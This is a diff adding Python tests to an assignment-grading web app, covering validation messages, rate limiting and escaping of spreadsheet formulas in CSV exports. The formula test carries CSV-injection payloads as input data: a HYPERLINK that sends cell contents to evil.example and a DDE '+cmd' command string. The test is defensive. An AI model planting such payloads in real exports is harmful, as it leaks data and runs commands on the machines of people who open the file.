@@ -370,6 +370,7 @@ def test_assignments_bad_submissions_and_sizes(app, spare, clock):
     assert r.status_code == 422 and "exactly one of 'scene' and 'image'" in r.text
     r = app.post(url, json={"image": "AAAA", "format": "jpg"}, headers=bearer(tok))
     assert r.status_code == 422 and r.json()["errors"][0]["path"] == "format"
+    assert r.json()["errors"][0]["message"].startswith("expected one of: png, exr; got"), r.json()  # not an empty list
     big = {"image": "A" * 2_100_000, "format": "png"}
     r = app.post(url, json=big, headers=bearer(tok))
     assert r.status_code == 413 and "TRACER_MAX_BODY_BYTES" in r.text
@@ -528,3 +529,47 @@ def test_assignments_exports_an_lms_gradebook_and_gradescope_results(app, clock)
     for path in ("gradebook.csv", f"submissions/{sub['id']}/results.json"):
         path = f"/api/assignments/{aid}/{path}"
         assert app.get(path, headers=bearer(tok["g1"])).status_code == 404, path
+
+
+def test_assignments_exports_never_carry_a_formula_a_student_typed(app, clock):
+    """A joined name `=HYPERLINK(...)` (and a roster name `+...`, `@...`) lands in grades.csv, gradebook.csv and
+    the roster's links.csv behind a single quote, so a spreadsheet shows it as text (tracer/spreadsheet.py); the
+    numbers stay numbers."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
+    aid = publish(app, open=True)["id"]
+    r = app.post(f"/api/assignments/{aid}/join", json={"name": evil}, headers={"Authorization": ""})
+    assert r.status_code == 200, r.text
+    text = "id,name,email\nr1,+cmd|' /C calc'!A0,\nr2,@SUM(A1),\n"
+    r = app.post(
+        f"/api/assignments/{aid}/roster", content=text, headers={"Content-Type": "text/csv", "Accept": "text/csv"}
+    )
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
+    links = list(csv.DictReader(io.StringIO(r.text)))
+    assert [row["name"] for row in links] == ["'+cmd|' /C calc'!A0", "'@SUM(A1)"]
+    names = {row["name"] for row in grades(app, aid)}
+    assert names == {"'" + evil, "'+cmd|' /C calc'!A0", "'@SUM(A1)"}
+    book = list(csv.reader(io.StringIO(app.get(f"/api/assignments/{aid}/gradebook.csv", headers=TEACHER).text)))
+    assert {row[0] for row in book[2:]} == names and book[1][-1] == "13"  # Points Possible: still a number
+
+
+def test_assignments_a_students_checks_are_so_many_a_minute(app, spare, clock):
+    """POST .../check of one token: TRACER_MAX_CHECKS_PER_MINUTE (3 here), then a 429 naming it with Retry-After;
+    another student's token and the instructor are not held; a minute later (the caps' injectable clock) the
+    token checks again."""
+    settings, caps = app.app.state.settings, app.app.state.caps
+    saved_cap, saved_clock = settings.max_checks_per_minute, caps.clock
+    settings.max_checks_per_minute, caps.clock = 3, Clock(5000.0)
+    try:
+        tok = roster(app, spare, [("c1", "Cee One", ""), ("c2", "Cee Two", "")])
+        url, body = f"/api/assignments/{spare}/check", {"scene": scene_text("carol")}  # broken JSON: quick
+        for _ in range(3):
+            assert app.post(url, json=body, headers=bearer(tok["c1"]["token"])).status_code == 200
+        r = app.post(url, json=body, headers=bearer(tok["c1"]["token"]))
+        assert r.status_code == 429, r.text
+        assert "TRACER_MAX_CHECKS_PER_MINUTE" in r.json()["errors"][0]["message"] and r.headers["retry-after"] == "60"
+        assert app.post(url, json=body, headers=bearer(tok["c2"]["token"])).status_code == 200
+        assert app.post(url, json=body).status_code == 200  # the instructor
+        caps.clock.now += 60
+        assert app.post(url, json=body, headers=bearer(tok["c1"]["token"])).status_code == 200
+    finally:
+        settings.max_checks_per_minute, caps.clock = saved_cap, saved_clock
